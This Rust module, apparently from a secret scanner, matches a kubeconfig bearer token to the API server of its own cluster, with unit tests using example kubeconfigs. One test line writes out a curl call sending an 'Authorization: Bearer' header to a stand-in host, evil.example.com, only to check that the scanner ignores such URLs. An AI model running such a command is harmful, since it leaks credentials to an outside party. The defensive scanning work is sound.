//! The API server a kubeconfig credential belongs to: the `server` of the cluster that the
//! same kubeconfig document pairs with the credential's user through a context.
//!
//! This is the only place a server URL is taken from scanned data, and only from the very
//! document that holds the credential, so a URL elsewhere in a file never receives a token.

use std::collections::HashMap;

use serde_json::{Map, Value};
use yaml_rust2::{Yaml, YamlLoader};

/// Largest document parsed; kubeconfigs are a few KiB, anything bigger is not one.
const MAX_DOC: usize = 1024 * 1024;

/// How far before a token its `token:` key may stand (quotes, spaces, a `>-` block scalar).
const KEY_REACH: usize = 48;

/// Whether the line starting at `s` is a YAML document separator (`---`).
fn separator_at(data: &[u8], s: usize) -> bool {
    let e = memchr::memchr(b'\n', &data[s..]).map_or(data.len(), |p| s + p);
    data[s..e].trim_ascii_end() == b"---"
}

/// Where the YAML documents of one input layer begin: every `---` separator line, found in
/// one pass when the first credential asks, so each later credential costs a binary search
/// instead of a search through up to [`MAX_DOC`] bytes either way.
fn separators(data: &[u8]) -> Vec<usize> {
    let mut seps: Vec<usize> = Vec::new();
    if separator_at(data, 0) {
        seps.push(0);
    }
    seps.extend(
        memchr::memmem::find_iter(data, b"\n---")
            .map(|i| i + 1)
            .filter(|&s| separator_at(data, s)),
    );
    seps
}

/// Bounds of the YAML document (between `---` lines) that holds `pos`.
fn document(data: &[u8], seps: &[usize], pos: usize) -> std::ops::Range<usize> {
    let i = seps.partition_point(|&s| s <= pos);
    let start = match i {
        0 => 0,
        _ => {
            let s = seps[i - 1];
            memchr::memchr(b'\n', &data[s..]).map_or(data.len(), |p| s + p + 1)
        }
    };
    let end = seps.get(i).copied().unwrap_or(data.len());
    start.min(end)..end
}

/// One parsed kubeconfig document: the server of each string found under a user (its
/// credentials), and the server of its only cluster, if it has one.
struct Resolved {
    by_secret: HashMap<String, String>,
    only: Option<String>,
}

/// Kubeconfig documents already read in one input, so a kubeconfig with thousands of users
/// is parsed once, not once per token. Valid for one `data` only: the caller keeps one per
/// input and a fresh one for decoded layers.
#[derive(Default)]
pub(crate) struct Servers {
    seps: Option<Vec<usize>>,
    docs: HashMap<usize, Option<Resolved>>,
}

fn yaml_to_json(y: &Yaml) -> Value {
    match y {
        Yaml::String(s) | Yaml::Real(s) => Value::String(s.clone()),
        Yaml::Integer(i) => Value::from(*i),
        Yaml::Boolean(b) => Value::Bool(*b),
        Yaml::Array(a) => Value::Array(a.iter().map(yaml_to_json).collect()),
        Yaml::Hash(h) => {
            let mut m = Map::new();
            for (k, v) in h {
                if let Some(k) = k.as_str() {
                    m.insert(k.to_owned(), yaml_to_json(v));
                }
            }
            Value::Object(m)
        }
        _ => Value::Null,
    }
}

fn named<'a>(doc: &'a Value, list: &str) -> impl Iterator<Item = (&'a str, &'a Value)> {
    doc.get(list)
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(move |item| Some((item.get("name")?.as_str()?, item)))
}

/// Every string beneath `v` (a user entry: its token, password, key data ...).
fn strings<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
    match v {
        Value::String(s) => out.push(s),
        Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        Value::Object(m) => m.values().for_each(|x| strings(x, out)),
        _ => {}
    }
}

/// Resolves every user → contexts → cluster → `server` of a parsed kubeconfig once; a
/// user paired with several clusters gets the current context's.
fn resolve(doc: &Value) -> Resolved {
    let server_of = |cluster: &str| {
        named(doc, "clusters")
            .find(|(n, _)| *n == cluster)
            .and_then(|(_, c)| c.get("cluster")?.get("server")?.as_str())
            .map(str::to_owned)
    };
    let current = doc.get("current-context").and_then(Value::as_str);
    let mut by_user: HashMap<&str, Vec<(&str, &str)>> = HashMap::new();
    for (name, c) in named(doc, "contexts") {
        let Some(ctx) = c.get("context") else {
            continue;
        };
        if let (Some(u), Some(cl)) = (
            ctx.get("user").and_then(Value::as_str),
            ctx.get("cluster").and_then(Value::as_str),
        ) {
            by_user.entry(u).or_default().push((name, cl));
        }
    }
    let mut by_secret = HashMap::new();
    for (user, u) in named(doc, "users") {
        let Some(mut clusters) = by_user.get(user).cloned() else {
            continue;
        };
        // The current context wins when the user is paired with several clusters.
        clusters.sort_by_key(|(name, _)| Some(*name) != current);
        let Some(server) = clusters.iter().find_map(|(_, c)| server_of(c)) else {
            continue;
        };
        let mut held = Vec::new();
        strings(u, &mut held);
        for s in held {
            by_secret
                .entry(s.to_owned())
                .or_insert_with(|| server.clone());
        }
    }
    let all: Vec<&str> = named(doc, "clusters")
        .filter_map(|(_, c)| c.get("cluster")?.get("server")?.as_str())
        .collect();
    Resolved {
        by_secret,
        only: match all.as_slice() {
            [only] => Some((*only).to_owned()),
            _ => None,
        },
    }
}

/// Parses the kubeconfig document `doc`, or `None` when it is not one.
fn parse(doc: &[u8]) -> Option<Resolved> {
    if doc.len() > MAX_DOC
        || memchr::memmem::find(doc, b"clusters").is_none()
        || memchr::memmem::find(doc, b"server").is_none()
    {
        return None;
    }
    let text = std::str::from_utf8(doc).ok()?;
    let value = if text.trim_start().starts_with('{') {
        serde_json::from_str(text).ok()?
    } else {
        yaml_to_json(YamlLoader::load_from_str(text).ok()?.first()?)
    };
    Some(resolve(&value))
}

/// The API server for the credential `secret` found at `pos`, when `data` around it is a
/// kubeconfig (YAML document or JSON object) that names one.
pub(crate) fn server_for(
    cache: &mut Servers,
    data: &[u8],
    pos: usize,
    secret: &str,
) -> Option<String> {
    // Bearer tokens sit under a user's `token` key. Checking that first keeps this off the
    // scan's cost for the many JWTs in logs and headers, which never are kubeconfig users.
    let key = &data[pos.saturating_sub(KEY_REACH).min(pos)..pos.min(data.len())];
    memchr::memmem::find(key, b"token")?;
    let seps = cache.seps.get_or_insert_with(|| separators(data));
    let doc = document(data, seps, pos);
    let resolved = cache
        .docs
        .entry(doc.start)
        .or_insert_with(|| parse(&data[doc]))
        .as_ref()?;
    let server = resolved.by_secret.get(secret).or(resolved.only.as_ref())?;
    // Only an http(s) URL; anything else (a template, a path) is not a server to call.
    (server.starts_with("https://") || server.starts_with("http://")).then(|| server.clone())
}

#[cfg(test)]
mod tests {
    use super::*;

    const TWO_CLUSTERS: &str = "apiVersion: v1
kind: Config
clusters:
- name: prod
  cluster:
    server: https://prod.example.com:6443
- name: staging
  cluster:
    server: https://staging.example.com:6443
contexts:
- name: ops@staging
  context: {cluster: staging, user: ops}
- name: ci@prod
  context:
    cluster: prod
    user: ci
current-context: ops@staging
users:
- name: ci
  user:
    token: ci-token-0123456789
- name: ops
  user:
    token: ops-token-0123456789
";

    #[test]
    fn user_is_resolved_through_its_context() {
        let d = TWO_CLUSTERS.as_bytes();
        let at = TWO_CLUSTERS.find("ci-token").unwrap();
        assert_eq!(
            server_for(&mut Servers::default(), d, at, "ci-token-0123456789").as_deref(),
            Some("https://prod.example.com:6443")
        );
        let at = TWO_CLUSTERS.find("ops-token").unwrap();
        assert_eq!(
            server_for(&mut Servers::default(), d, at, "ops-token-0123456789").as_deref(),
            Some("https://staging.example.com:6443")
        );
    }

    #[test]
    fn only_the_same_document_counts() {
        let text = format!(
            "{TWO_CLUSTERS}---\napiVersion: v1\nkind: ConfigMap\ndata:\n  token: other-0123456789\n"
        );
        let at = text.find("other-0123").unwrap();
        assert_eq!(
            server_for(
                &mut Servers::default(),
                text.as_bytes(),
                at,
                "other-0123456789"
            ),
            None
        );
        // A URL in plain text is never a server.
        let log = "curl https://evil.example.com -H 'Authorization: Bearer abc'\n";
        assert_eq!(
            server_for(&mut Servers::default(), log.as_bytes(), 40, "abc"),
            None
        );
        // Not under a `token` key: not a kubeconfig user's credential, whatever surrounds it.
        let at = TWO_CLUSTERS.find("ci-token").unwrap();
        let moved = TWO_CLUSTERS.replacen("    token: ci-token", "    secret: ci-token", 1);
        assert_eq!(
            server_for(
                &mut Servers::default(),
                moved.as_bytes(),
                at + 1,
                "ci-token-0123456789"
            ),
            None
        );
    }

    #[test]
    fn one_cache_answers_every_user_of_a_document_and_only_that_document() {
        let text = format!(
            "{TWO_CLUSTERS}---\napiVersion: v1\nkind: Config\nclusters:\n- name: dev\n  cluster:\n    server: https://dev.example.com\nusers:\n- name: d\n  user:\n    token: dev-token-0123456789\n"
        );
        let mut cache = Servers::default();
        let ask = |cache: &mut Servers, secret: &str| {
            let at = text.find(secret).unwrap();
            server_for(cache, text.as_bytes(), at, secret)
        };
        for _ in 0..2 {
            assert_eq!(
                ask(&mut cache, "ops-token-0123456789").as_deref(),
                Some("https://staging.example.com:6443")
            );
            assert_eq!(
                ask(&mut cache, "ci-token-0123456789").as_deref(),
                Some("https://prod.example.com:6443")
            );
            assert_eq!(
                ask(&mut cache, "dev-token-0123456789").as_deref(),
                Some("https://dev.example.com")
            );
        }
        assert_eq!(cache.docs.len(), 2, "each document parsed once");
    }

    #[test]
    fn json_kubeconfig_with_one_cluster() {
        let text = r#"{"clusters":[{"name":"c","cluster":{"server":"https://10.0.0.1:6443"}}],"users":[{"name":"u","user":{"token":"tok-0123456789"}}]}"#;
        let at = text.find("tok-0123").unwrap();
        assert_eq!(
            server_for(
                &mut Servers::default(),
                text.as_bytes(),
                at,
                "tok-0123456789"
            )
            .as_deref(),
            Some("https://10.0.0.1:6443")
        );
    }
}
